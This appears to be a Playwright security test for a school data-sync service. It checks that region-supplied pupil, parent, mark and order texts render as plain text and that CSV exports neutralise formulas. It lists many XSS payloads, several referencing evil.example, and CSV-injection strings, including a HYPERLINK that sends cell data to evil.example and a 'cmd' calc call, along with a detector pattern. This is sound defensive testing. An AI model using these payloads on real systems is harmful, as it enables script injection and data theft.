"""Statement 47: what the region sends is text and nothing else, on the page and in tables for spreadsheets.

Every payload stands in every text of a pupil, of a parent, of an order and of a mark, and in turn in the names of
classes, subjects and schools; none of them passes a mapping that might make it harmless. The browser is told to
ignore the content security policy, so that escaping alone has to hold; a second look is taken under the policy.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from io import StringIO
from itertools import islice, product

from playwright.sync_api import Browser, Dialog, Page

from sync_service.domain.guards import Limit
from sync_service.domain.people import Role
from sync_service.domain.records import Values
from sync_service.domain.reports import RunStatus
from sync_service.domain.streams import Stream
from tests.browser.chromium import launched, may_do_without, signed_in
from tests.browser.filled import plan_of
from tests.browser.routes import pages
from tests.browser.site import SCHOOL, Site
from tests.browser.test_state_and_runs import begin, connected, end
from tests.simulation.databases import Databases
from tests.simulation.door_statements import a_site
from tests.unit.guard.crowd import a_pupil

RAN = "ran(1)"
ELEMENTS = (
    f"<script>{RAN}</script>",
    f"<img src=x onerror={RAN}>",
    f"<svg onload={RAN}>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RAN}</script>'></foreignObject></svg>",
    f"<body onpageshow={RAN}>",
    f"<iframe src=javascript:parent.{RAN}></iframe>",
    f"<details open ontoggle={RAN}>x</details>",
    f"<video><source onerror={RAN}></video>",
    f"<audio src=x onerror={RAN}></audio>",
    f"<input autofocus onfocus={RAN}>",
    f"<select autofocus onfocus={RAN}></select>",
    f"<textarea autofocus onfocus={RAN}></textarea>",
    f"<marquee onstart={RAN}>x</marquee>",
    f"<object data=javascript:{RAN}></object>",
    f"<embed src=javascript:{RAN}>",
    f"<math><mtext><img src=x onerror={RAN}></mtext></math>",
    f"<a href=javascript:{RAN} id=x>x</a>",
    f"<form action=javascript:{RAN}><button>x</button></form>",
    f"<div style=animation-name:x onanimationstart={RAN}>x</div>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RAN}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<template><script>{RAN}</script></template><noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"<x hx-get=/healthz hx-trigger=load hx-on::load={RAN}>x</x>",
)
WRAPPINGS = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "-->{}<!--",
    '" autofocus onfocus=ran(1) x="{}',
    "{{{{ {} }}}}",
)
FORMULAS = tuple(
    sign + rest
    for sign, rest in product(
        ("=", "+", "-", "@", "\t=", "\r="),
        ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1;"x")', "SUM(A1)", 'WEBSERVICE("x")'),
    )
)
FIRST_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n")
FOREIGN = """() => [...document.querySelectorAll('*')].filter(one =>
    [...one.attributes].some(a => /^(on|hx-)/i.test(a.name) || /^\\s*javascript:/i.test(a.value)
        || a.value.includes('//evil.example') && ['href', 'src', 'action'].includes(a.name))
    || one.tagName === 'SCRIPT' && !one.src.startsWith(location.origin + '/static/')
    || ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'MARQUEE', 'VIDEO', 'AUDIO', 'MATH', 'STYLE', 'TEMPLATE', 'X',
        'FOREIGNOBJECT', 'ANIMATE'].includes(one.tagName.toUpperCase())
    || one.tagName === 'META' && one.httpEquiv).map(one => one.outerHTML.slice(0, 200))"""


def payloads(count: int) -> list[str]:
    """The first so many of all elements in all wrappings, each element once before any comes again."""
    every = (wrapping.format(element) for wrapping, element in product(WRAPPINGS, ELEMENTS))
    found = list(islice(every, count))
    assert len(set(found)) == count, f"there are only {len(set(found))} payloads"
    return found


def statement_47(count: int, databases: Databases) -> str:
    with a_site(databases) as made:
        cells = formulas_are_text(made)
    told = f"{len(FORMULAS)} formulas in {cells:,} cells of three tables, 0 left one"
    if may_do_without():
        return f"payloads on the page: not available here; {told}"
    with launched() as browser, a_site(databases) as made:
        looks = payloads_are_text(browser, made, count)
    return f"{count:,} payloads in every regional text, {looks:,} looks without and under the policy, 0 run; {told}"


# --- the page ------------------------------------------------------------------------------------------------------


@dataclass  # without slots: Playwright keeps a note on whoever listens
class Watch:
    """A browser's page, and everything that ran or went elsewhere."""

    page: Page
    happened: list[str] = field(default_factory=list)
    looks: int = 0
    shown: str = ""

    def __post_init__(self) -> None:
        self.page.add_init_script("window.ran = n => console.log('RAN ' + n)")
        self.page.on("console", self._said)
        self.page.on("dialog", self._alerted)
        self.page.on("request", lambda request: self._asked(request.url))

    def _alerted(self, dialog: Dialog) -> None:
        self.happened.append(dialog.message)
        dialog.dismiss()

    def _said(self, message: object) -> None:
        text = str(getattr(message, "text", ""))
        if text.startswith("RAN") or "Content Security Policy" in text:
            self.happened.append(text)

    def _asked(self, url: str) -> None:
        if "evil.example" in url or not url.startswith(("http://127.0.0.1:", "data:")):
            self.happened.append(url)

    def look(self, url: str) -> None:
        answer = self.page.goto(url)
        assert answer is not None
        assert answer.status < 500, url
        assert self.page.evaluate(FOREIGN) == [], url
        assert self.happened == [], f"{url}: {self.happened}"
        self.shown += str(self.page.evaluate("document.body.textContent"))
        self.looks += 1


def payloads_are_text(browser: Browser, made: Site, count: int) -> int:
    """How many screens were looked at; AssertionError when one of them took a payload for anything but text."""
    given = payloads(count)
    _sent_by_the_region(made, given)
    rows = [row["id"] for row in made.world.rows("students")]
    with made.world.db.read(made.world.school.school_id) as uow:
        cases = [case.conflict_id for case in uow.conflicts.cases()]
    assert len(cases) == count, f"{len(cases)} conflicts of {count}"
    plan = plan_of(made)
    lists = [*pages({"plan_id": plan, "run_id": "r1"}), *_further(count)]
    looks = 0
    for bypassed in (True, False):
        context = signed_in(browser, made, Role.ADMIN, bypass_csp=bypassed)
        watch = Watch(context.new_page())
        cards = [f"/s/{SCHOOL}/conflicts/{case}" for case in cases]
        cards += [f"/s/{SCHOOL}/pupils/{row}" for row in rows]
        for path in (*lists, *(cards if bypassed else cards[:: max(1, len(cards) // 20)])):
            watch.look(made.url + path)
        if bypassed:
            missing = [payload for payload in given if payload not in watch.shown]
            assert not missing, f"never shown as text: {missing[:3]}"
        looks += watch.looks
        context.close()
    return looks


def _further(count: int) -> Iterator[str]:
    """Later pages of long lists."""
    for page in range(2, count // 50 + 2):
        yield f"/s/{SCHOOL}/conflicts?page={page}"


def _sent_by_the_region(made: Site, given: list[str]) -> None:
    world = made.world
    connected(made)
    world.limits = replace(world.limits, creates=Limit(10_000, 100.0), updates=Limit(10_000, 100.0))
    remote, timetable = world.remote, made.timetable
    records = []
    for number, payload in enumerate(given):
        texts: Values = dict.fromkeys(
            ("last_name", "first_name", "patronymic", "address", "email", "personal_file_no"), payload
        )
        pupil = remote.create(Stream.STUDENTS, {**a_pupil(number), **texts, "phone": payload})
        parent = remote.create(
            Stream.GUARDIANS, {"last_name": payload, "first_name": payload, "phone": payload, "email": payload}
        )
        tie: Values = {"student_id": pupil, "guardian_id": parent, "relation": payload}
        remote.create(Stream.GUARDIANSHIPS, tie)
        cell = {"student_id": pupil, "lesson_id": timetable.lessons[0]}
        remote.create(Stream.MARKS, {**cell, "value": "4", "weight": 1, "position": 1, "comment": payload})
        records.append(pupil)
    for number, payload in enumerate(given[: len(ELEMENTS)]):
        remote.create(Stream.CLASSES, {"school_year": 2026, "name": payload, "grade": 8})
        remote.create(Stream.SUBJECTS, {"name": payload})
        remote.create(Stream.ORGANIZATIONS, {"name": payload, "phone": payload, "keeps_movement": True})
        order = {"date": "2026-11-16", "order_number": payload, "order_date": "2026-11-16"}
        leaves = {"student_id": records[number], "kind": "departure", "destination_name": payload}
        remote.create(Stream.MOVEMENTS, dict(leaves | order))
    world.sync()
    for number, row in enumerate(world.rows("students")):
        world.update("students", row["id"], address=f"ул. Ленина, {number}")
    for payload, record in zip(given, records, strict=True):
        remote.edit(Stream.STUDENTS, record, address=f"{payload} 2")
    world.sync()
    for row in world.rows("students")[:5]:
        world.update("students", row["id"], email="anna@example.ru")
    end(made, begin(made), RunStatus.COMPLETED_WITH_ERRORS, marks=f"ContractError: {given[0]}", attendance=given[-1])


# --- tables for spreadsheets ---------------------------------------------------------------------------------------


def formulas_are_text(made: Site) -> int:
    """Cells of the movements, of the journal and of a plan; AssertionError for one that a spreadsheet calculates."""
    world = made.world
    connected(made)
    world.limits = replace(world.limits, creates=Limit(10_000, 100.0), updates=Limit(10_000, 100.0))
    for number, formula in enumerate(FORMULAS):
        texts = dict.fromkeys(("last_name", "first_name", "address", "personal_file_no"), formula)
        pupil = world.remote.create(Stream.STUDENTS, {**a_pupil(number), **texts})
        order = {"date": "2026-11-16", "order_number": formula, "order_date": "2026-11-16"}
        leaves = {"student_id": pupil, "kind": "departure", "destination_name": formula}
        world.remote.create(Stream.MOVEMENTS, {**leaves, **order})
    world.sync()
    for number, row in enumerate(world.rows("students")):
        world.update("students", row["id"], address=FORMULAS[-number])
    admin = made.sign_in(Role.ADMIN)
    admin.get(f"/s/{SCHOOL}/movements")
    found = []
    today = f"{world.clock.now():%Y-%m-%d}"
    asked: dict[str, dict[str, str]] = {
        "movements/export": {},
        "journal/export": {"first": today, "last": today, "format": "csv"},
        f"resync/{plan_of(made)}/csv": {},
    }
    for path, fields in asked.items():
        answer = made.post(admin, f"/s/{SCHOOL}/{path}", fields)
        assert answer.status_code == 200, path
        cells = [
            cell
            for row in csv.reader(StringIO(answer.text.lstrip("\ufeff"), newline=""), delimiter=";")
            for cell in row
        ]
        calculated = [cell for cell in cells if cell.startswith(FIRST_SIGNS)]
        assert not calculated, f"{path}: {calculated[:3]}"
        assert any(cell.lstrip("'").startswith(FIRST_SIGNS) for cell in cells), f"{path}: no formula is alive"
        found += cells
    return len(found)
